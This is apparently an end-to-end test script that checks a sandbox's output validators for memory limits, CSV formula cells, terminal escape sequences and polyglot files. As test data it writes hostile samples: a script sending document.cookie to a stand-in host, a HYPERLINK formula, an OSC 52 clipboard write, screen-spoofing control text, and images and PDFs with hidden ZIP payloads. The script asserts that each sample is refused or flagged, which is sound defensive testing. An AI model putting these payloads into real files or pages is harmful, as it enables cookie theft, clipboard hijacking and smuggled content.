#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# outputs.sh - the validators, from the payload's side: what it writes is
# checked in bounded broker memory, polyglots and hostile text are refused
# or flagged, and ordinary outputs still pass.
. "$SBX_SRCDIR/tests/e2e/lib.sh"

# sbx under a wrapper that records the peak RSS (KiB) of sbx and what it
# waited for.  That includes the python wrapper's own pages (the exec'd
# image inherits its high-water mark, ~10 MiB) and coreutils payloads: an
# upper bound on the broker, far below a file held in memory.
SBX_REAL=$SBX
SBX="$T/sbx-rss"
RSS="$T/rss"
: > "$RSS"
chmod 0666 "$RSS"
cat > "$SBX" <<PY
#!/usr/bin/python3
import resource, subprocess, sys
rc = subprocess.call(["$SBX_REAL"] + sys.argv[1:])
open("$RSS", "w").write("%d\n" % resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
sys.exit(rc)
PY
chmod 0755 "$SBX"
rss_kib() { cat "$RSS"; }

artifact() { jq -r --arg p "$1" ".artifacts[] | select(.path == \$p) | $2" "$OUT"; }
status_of() { artifact "$1" '.status + ": " + (.reason // "") + " flags=" + ((.flags // []) | join(","))'; }
promoted() { # PATH [FLAGS]: promoted, with exactly these flags (comma-separated)
	local r
	r=$(status_of "$1")
	[ "$r" = "promoted:  flags=${2:-}" ] && return 0
	diag "$1: $r"
	return 1
}
rejected_because() { # PATH REGEX
	local r
	r=$(status_of "$1")
	[[ "$r" =~ ^rejected:\ .*$2 ]] && return 0
	diag "$1: $r"
	return 1
}

for mode in root user; do
	setup_mode $mode

	# --- bounded memory for JSON ------------------------------------------
	# 32 MiB of [0,0,...], and the same at the depth limit: a parse tree
	# costs ~20 bytes of broker heap per input byte (~650 MiB here).
	for shape in flat deep; do
		mkjob "$M/j.json" shell 'd=$1; open=; close=
			while [ $d -gt 0 ]; do open="$open["; close="$close]"; d=$((d - 1)); done
			{ printf %s "$open"; yes 0 | head -n 16777000 | tr "\n" ,; printf "0%s" "$close"; } > /work/out/big.json' \
			"{args: [\"$([ $shape = flat ] && echo 1 || echo 64)\"], limits: {output_bytes: 67108864}}"
		sbx_run "$M/j.json"
		check "$mode: 32 MiB of JSON ($shape) is valid and promoted" \
			eval '[ $RC -eq 0 ] && promoted big.json && [ "$(artifact big.json .size)" -gt 33000000 ]'
		check "$mode: ... the broker's peak RSS stays under 24 MiB ($(rss_kib) KiB)" \
			test "$(rss_kib)" -lt 24576
	done

	# --- CSV formulas under every separator, terminal escapes in text ------
	mkjob "$M/j.json" shell 'cd /work/out
		printf "sep=;\nname;link\nx;\"=HYPERLINK(\"\"http://192.0.2.1/\"\")\"\n" > sep.csv
		printf "a;b\n1;=1+1\n" > semicolon.csv
		printf "a\tb\n1\t=1+1\n" > tab.csv
		printf "a,b\n1,\357\274\235cmd\n" > fullwidth.csv
		printf "a,b\n1, =1+1\n" > space.csv
		printf "a,b\n1;=x,2\n" > other-sep.csv
		printf "a;b\n1,5;2,5\n" > decimal.csv
		printf "a,b\n1,\033[31m2\n" > esc.csv
		printf "copy \033]52;c;ZWNobyBvd25lZA==\007 this\n" > osc52.txt
		printf "\033[2J\033[Hnothing to see\n" > clear.txt
		printf "safe\b\b\b\bevil\n" > bs.txt
		printf "log \033[1;31mERROR\033[0m line\n" > colours.log
		printf "[\"\\\\u001b]52;c;eA==\\\\u0007\"]" > escaped.json
		printf "plain text\n" > plain.txt'
	sbx_run "$M/j.json"
	expect_rc 0 "$mode: CSV and text outputs: the run succeeds"
	for f in sep semicolon tab fullwidth space other-sep; do
		check "$mode: $f.csv: promoted, formula_cells true" \
			eval 'promoted $f.csv && [ "$(artifact $f.csv .formula_cells)" = true ]'
	done
	check "$mode: decimal.csv (sniffed ';', decimal commas): promoted, no formula" \
		eval 'promoted decimal.csv && [ "$(artifact decimal.csv .formula_cells)" = false ]'
	check "$mode: a CSV with an escape sequence is rejected" rejected_because esc.csv 'control character 0x1b'
	check "$mode: text with an OSC 52 clipboard write is rejected" rejected_because osc52.txt 'terminal escape'
	check "$mode: text that clears the screen is rejected" rejected_because clear.txt 'terminal control sequence'
	check "$mode: text with backspaces is rejected" rejected_because bs.txt 'control character 0x08'
	check "$mode: a log with colours is promoted, flagged terminal_colors" promoted colours.log terminal_colors
	check "$mode: JSON whose strings decode to controls: promoted, flagged terminal_controls" \
		promoted escaped.json terminal_controls
	check "$mode: plain text: promoted, no flags" promoted plain.txt
	check "$mode: nothing rejected reaches --artifacts" \
		eval '[ ! -e "$ART/esc.csv" ] && [ ! -e "$ART/osc52.txt" ] && [ ! -e "$ART/clear.txt" ] && [ -f "$ART/colours.log" ]'

	# --- polyglots ------------------------------------------------------------
	# Ordinary matplotlib outputs, and the same files carrying a second
	# format where each format's readers skip data.
	cat > "$M/poly.py" <<'PY'
import io, struct, zipfile, zlib
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt, numpy as np
out = "/work/out/"
fig, ax = plt.subplots()
ax.plot(np.arange(50), np.sin(np.arange(50) / 5), label="sin")
ax.imshow(np.random.rand(16, 16), extent=(0, 50, -1, 1), aspect="auto")
ax.legend(); ax.set_title("plot")
for ext in ("png", "jpg", "pdf"):
    fig.savefig(out + "plot." + ext)
z = io.BytesIO()
with zipfile.ZipFile(z, "w") as f:
    f.writestr("payload.sh", "echo owned\n")
z = z.getvalue()
png = open(out + "plot.png", "rb").read()
def chunk(t, b):
    return struct.pack(">I", len(b)) + t + b + struct.pack(">I", zlib.crc32(t + b))
# after IHDR: a private chunk, and a tEXt comment, holding the ZIP
open(out + "zip-chunk.png", "wb").write(png[:33] + chunk(b"zIPp", z) + png[33:])
open(out + "zip-text.png", "wb").write(png[:33] + chunk(b"tEXt", b"Comment\0" + z) + png[33:])
jpg = open(out + "plot.jpg", "rb").read()
com = b"\xff\xfe" + struct.pack(">H", len(z) + 2) + z
open(out + "zip-com.jpg", "wb").write(jpg[:2] + com + jpg[2:])
pdf = open(out + "plot.pdf", "rb").read()
nl = pdf.index(b"\n", pdf.index(b"\n") + 1) + 1  # after the two header lines
open(out + "zip.pdf", "wb").write(pdf[:nl] + z + b"\n" + pdf[nl:])
page = b"<!DOCTYPE html><html><script>fetch('http://192.0.2.1/'+document.cookie)</script></html>\n"
open(out + "page.txt", "wb").write(page)
open(out + "page.pdf", "wb").write(b"%PDF-1.4\n" + page + b"startxref\n0\n%%EOF\n")
open(out + "page-named.pdf", "wb").write(page)
PY
	mkjob "$M/j.json" python-analysis "$(cat "$M/poly.py")" '{limits: {memory_mib: 512}}'
	sbx_run "$M/j.json"
	expect_rc 0 "$mode: matplotlib and polyglot outputs: the run succeeds"
	for f in plot.png plot.jpg plot.pdf; do
		check "$mode: matplotlib's $f is promoted, no flags" promoted $f
	done
	check "$mode: PNG with a ZIP in a private chunk: rejected" rejected_because zip-chunk.png 'zIPp (chunk holds a ZIP|of [0-9]+ bytes)'
	check "$mode: PNG with a ZIP in a tEXt chunk: rejected" rejected_because zip-text.png 'tEXt chunk holds a ZIP'
	check "$mode: JPEG with a ZIP in a COM segment: rejected" rejected_because zip-com.jpg 'COM segment holds a ZIP'
	check "$mode: a PDF holding a ZIP: rejected" rejected_because zip.pdf 'not a PDF object'
	check "$mode: an HTML page named .txt: rejected" rejected_because page.txt 'starts like an HTML'
	check "$mode: an HTML page behind a PDF header: rejected" rejected_because page.pdf 'not a PDF object'
	check "$mode: an HTML page named .pdf: rejected" rejected_because page-named.pdf 'extension says application/pdf'
	check "$mode: only the matplotlib files reach --artifacts" \
		test "$(cd "$ART" && find . -path ./.sbx -prune -o -type f -print | sort | tr '\n' ' ')" = "./plot.jpg ./plot.pdf ./plot.png "
	check "$mode: nothing left behind" nothing_left
done

finish
